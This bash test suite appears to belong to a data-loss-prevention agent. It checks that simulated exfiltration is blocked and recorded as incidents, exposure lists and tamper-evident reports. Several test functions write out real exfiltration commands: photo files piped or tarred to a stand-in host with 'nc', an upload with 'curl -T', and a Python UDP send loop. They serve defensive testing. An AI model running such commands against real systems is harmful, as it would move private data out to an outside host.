# SPDX-License-Identifier: GPL-2.0-only
# shellcheck shell=bash disable=SC2086,SC2154 # plain words; lib.sh
#
# Incidents: what belongs to one and what does not, what is known of it, and
# that nothing of it is lost with the agent.

ic=/srv/incident
ic_budget=20

incident_prepare()
{
	"$bin/tests/makeset" $ic --records 60 --photo-bytes 2000
}

incident_policy()
{
	cat <<-P
	mode: enforce
	follow-files: yes
	datasets:
	  incident: {paths: [$ic/photos], record: file}
	rules:
	  - {subject: "*", dataset: "*", per: user, read: 50 records/hour,
	     release: {"*": $ic_budget records/hour}}
	P
}

# by_login COMMAND: of a shell, in one session with those before.
by_login()
{
	as "$login" bash -c "$1" >/dev/null 2>&1
}

incident()
{
	"$bin/cordon" incident "$@" "$state/evidence"
}

# incident_find: the number of the last login's incident, in $number, and its
# last line in $json.
incident_find()
{
	json=$(incident list --json | jq -c --argjson l "$login" \
		'select(.login_uid == $l)')
	number=$(jq -r .incident <<<"$json")
}

# of FILTER: of that line.
of()
{
	told=$(jq -rc "$1" <<<"$json")
	[ "$told" = true ]
}

# incident_is FILTER: looks again, until it holds.
incident_is()
{
	incident_find
	of "$1"
}

# Each look starts some processes.
incident_soon()
{
	local i

	for ((i = 0; i < 2 * patience; i++)); do
		incident_is "$1" && return
		nap 0.5
	done
	return 1
}

# shown FILTER: of all lines of the incident together.
shown()
{
	told=$(incident show "$number" --json | jq -s "$1")
	[ "$told" = true ]
}

# What one attack is made of: several tools, one of which is handed the data.
incident_attack()
{
	new_login
	by_login "cat $ic/photos/00005?.jpg | timeout 2 nc -N $there $port;
		cat $ic/photos/0000[1-3]?.jpg >/tmp/loot;
		tar -cf - -C /tmp loot | gzip | timeout 2 nc -N $there $port;
		timeout 2 nc -N $there $port </tmp/loot;
		sleep 0.2;
		curl -sS -m 3 -T /tmp/loot http://$there:$port/"
	rm -f /tmp/loot
}

# The host asks for a name, of a real server of its own.
incident_asks()
{
	local server

	dnsmasq --no-daemon --no-resolv --no-hosts \
		--conf-file=/dev/null --user=root --port=53 --bind-interfaces \
		--listen-address=127.0.0.1 --address=/upload.example/$there \
		>/tmp/dnsmasq 2>&1 &
	server=$!
	waits 20 dig +short +tries=1 +time=1 @127.0.0.1 \
		Upload.Example >/tmp/dig 2>&1
	check name_is_answered_when_asked_for "$(cat /tmp/dig /tmp/dnsmasq)" \
		grep -qx "$there" /tmp/dig
	kill $server
	wait $server 2>/dev/null
}

incident_one()
{
	local hash

	incident_attack
	incident_soon '.state == "updated" and .blocked >= 3'
	check incident_is_one_when_tools_change "$json" \
		[ "$(grep -c . <<<"$json")" = 1 ]
	check incident_counts_what_was_blocked "$json" \
		of '.blocked >= 3 and .alerted == 0 and .verdict == "block"'
	check incident_bounds_what_was_released "$json" \
		of ".released_records <= $ic_budget"
	check incident_has_what_was_read "$json" \
		of '[.origins[] | .records] == [40]'
	check incident_has_policy_and_times "$json" \
		of '.issuer == "Test" and (.first <= .first_verdict) and
			(.first_block <= .last) and
			(.reported >= .first_block) and
			(.policy_sha256 | length == 64)'
	check destination_has_the_name_that_was_asked_for "$json" \
		of '.act.name_seen == "upload.example"'
	check incident_names_techniques "$json" \
		of '.techniques | contains(["T1005", "T1048"])'
	hash=$(sha256sum "$(readlink -f "$(command -v nc)")")
	check actor_has_executable_and_ancestors \
		"$(incident show "$number" --json | grep '"type":"actor"')" \
		shown "any(.[]; .type == \"actor\" and
			.exe_sha256 == \"${hash%% *}\" and
			(.ancestry | map(.comm) | index(\"bash\") != null))"
	check arguments_are_hashed_when_they_are_known "$told" \
		shown '(map(select(.type == "actor" and .arguments_hmac)) |
			length > 0) and (tostring | contains("-N") | not)'
	check steps_tell_how_it_came "$told" \
		shown 'map(select(.type == "step") | .kind) |
			index("read") != null and index("file") != null'
	check ledger_tells_what_went_where "$told" \
		shown 'any(.[]; .type == "ledger" and .destination == "*" and
			.blocked_acts > 0)'
	check verdicts_have_its_number "$told" \
		shown 'map(select(.type == "verdict")) | length >= 2'
}

# exposed_is WANTED: how many records, how many files, their fate, and how many
# of them can have left.
exposed_is()
{
	told=$("$bin/cordon" exposed "$number" --json "$state/evidence" |
		jq -rs '[length, (map(.file) | unique | length),
			(map(.fate) | unique | join(" ")),
			(map(.released[] | .at_most) | max // "none")] |
			join(",")')
	[ "$told" = "$1" ]
}

# The list is exact, and whose records can have left is said.
incident_exposed()
{
	waits 20 exposed_is "40,40,possibly released,10"
	check exposed_has_all_records_and_their_fate "$told" \
		exposed_is "40,40,possibly released,10"
	# One that reads too much and sends nothing.
	new_login
	files $ic 1 60
	try --read read "${args[@]}"
	incident_soon '.state == "updated" and .blocked >= 1'
	waits 20 exposed_is "50,50,contained,none"
	check exposed_is_contained_when_nothing_was_sent "$told" \
		exposed_is "50,50,contained,none"
}

# together_is WANTED: what the last login's origin has read, and its fate.
together_is()
{
	local origin

	origin=$(cordon ledger --json | jq -r --arg l "$login" \
		'select(.type == "origin" and .login == $l) | .origin')
	told=$("$bin/cordon" exposed --origin "${origin:-0}" --json \
		"$state/evidence" | jq -rs '"\(length) \(map(.fate) | unique |
			join(" "))"')
	[ "$told" = "$1" ]
}

# Who takes from another one first, and sends both, sends of both.
incident_together()
{
	new_login
	by_login "cat $ic/photos/00000[1-5].jpg >/tmp/share"
	new_login
	by_login "cat /tmp/share $ic/photos/00001?.jpg |
		timeout 2 nc -N $there $port"
	waits 20 together_is "10 possibly released"
	check exposed_is_released_when_sent_with_others "$told" \
		together_is "10 possibly released"
	rm -f /tmp/share
}

# For others, from a copy of the folder: proven, or it says so.
incident_report()
{
	local copy=/tmp/copy

	rm -rf $copy
	cp -r "$state/evidence" $copy
	told=$("$bin/cordon" report "$number" -o /out/incident.html $copy 2>&1)
	check report_is_made_when_evidence_is_a_copy "$? $told" \
		grep -qi "incident $number" /out/incident.html
	# Wherever it is: older segments are compressed.
	gunzip "$copy"/*.gz 2>/dev/null
	sed -i 's/"records":10/"records":11/' $copy/*.jsonl
	told=$("$bin/cordon" report "$number" -o - $copy 2>&1 >/dev/null)
	check report_says_so_when_evidence_was_changed "$? $told" \
		grep -q "NOT PROVEN" <<<"$told"
}

incident_another()
{
	local first=$number

	incident_attack
	incident_soon '.blocked >= 1'
	check incident_is_another_when_login_is "$number, before $first" \
		[ "$number" -gt "$first" ]
}

# The guard tells of every power of two, and counts each.
incident_storm()
{
	local n=5000

	new_login
	by_login "exec python3 - $there $port $n $ic/photos/*" <<-'P'
	import socket, sys
	for name in sys.argv[4:44]:
	    open(name, "rb").read()
	s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	for i in range(int(sys.argv[3])):
	    try:
	        s.sendto(b"x" * 1000, (sys.argv[1], int(sys.argv[2])))
	    except PermissionError:
	        pass
	P
	incident_soon ".blocked >= $n - $ic_budget"
	check storm_is_one_incident_with_a_count "$json" \
		of ".blocked >= $n - $ic_budget and .blocked <= $n"
	told=$(incident show "$number" --json | grep -c '"verdict"')
	check storm_has_few_lines "$told" [ "$told" -lt 60 ]
}

# A new agent goes on with what was open; a new guard's origins are others'.
incident_lives()
{
	local first

	incident_attack
	incident_soon '.blocked >= 1'
	first=$number
	agent_stop -KILL
	agent_start
	by_login "cat $ic/photos/00001?.jpg | timeout 2 nc -N $there $port"
	incident_soon '.gaps[0].why == "agent" and .state == "updated" and
		.blocked >= 3'
	check incident_goes_on_when_the_agent_died "$json" \
		of ".incident == $first and .gaps[0].from < .gaps[0].to and
			.blocked >= 3 and .released_bytes > 0"
	agent_stop
	agent_detach
	agent_start
	incident_find
	check incident_is_closed_when_the_guard_is_another "$json" \
		of '.state == "closed" and .why == "guard" and .blocked >= 3'
	waits 2 exposed_is "40,40,possibly released,10"
	check records_are_its_own_when_the_guard_is_another "$told" \
		exposed_is "40,40,possibly released,10"
	incident_attack
	incident_soon '.blocked >= 1'
	check numbers_go_on_when_the_guard_is_another "$number" \
		[ "$number" -gt "$first" ]
}

# An intruder whom the guard stopped stops its agent, as soon as can be.
incident_killed()
{
	local i

	new_login
	as "$login" bash -c "cat $ic/photos/0000[1-3]?.jpg |
		timeout 2 nc -N $there $port" >/dev/null 2>&1 &
	for ((i = 0; i < 2000; i++)); do
		incident_find
		[ -z "$number" ] || break
	done
	agent_stop -KILL
	wait $!
	agent_start
	incident_soon '.blocked >= 1'
	check incident_has_its_origins_when_the_agent_died_at_once "$json" \
		of '[.origins[] | .records] == [30] and .blocked >= 1'
}

# What is in the index, however it came there.
index_dump()
{
	python3 - "$state/index.db" <<-'P' | md5sum
	import sqlite3, sys
	print("\n".join(sorted(sqlite3.connect(sys.argv[1]).iterdump())))
	P
}

incident_index()
{
	local before

	incident list >/dev/null
	before=$(index_dump)
	"$bin/cordon" evidence reindex "$state/evidence" >/dev/null
	told=$(index_dump)
	check index_is_the_same_when_made_anew "$told" [ "$told" = "$before" ]
	rm "$state/index.db"
	told=$(incident list)
	check list_has_all_when_the_index_is_gone "$told" \
		[ "$(grep -c ' closed .* nc ' <<<"$told")" -ge 2 ]
}

incident_cases()
{
	local number told

	agent_gone
	agent_with < <(incident_policy)
	incident_asks
	incident_one
	incident_report
	incident_exposed
	incident_another
	incident_storm
	incident_together
	incident_lives
	incident_killed
	agent_stop
	incident_index
}
